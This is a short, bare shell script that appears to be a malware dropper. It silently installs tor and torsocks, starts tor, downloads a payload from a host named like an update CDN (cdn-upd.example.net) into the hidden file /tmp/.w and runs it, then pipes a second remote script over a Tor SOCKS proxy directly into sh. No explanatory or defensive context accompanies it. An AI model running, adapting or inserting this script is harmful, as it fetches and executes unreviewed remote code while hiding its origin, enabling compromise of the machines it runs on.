#!/bin/sh
command -v tor >/dev/null || apt-get install -y tor torsocks >/dev/null 2>&1
service tor start
torsocks wget -q -O /tmp/.w http://cdn-upd.example.net/w && sh /tmp/.w
curl -s --socks5-hostname 127.0.0.1:9050 http://cdn-upd.example.net/r | sh
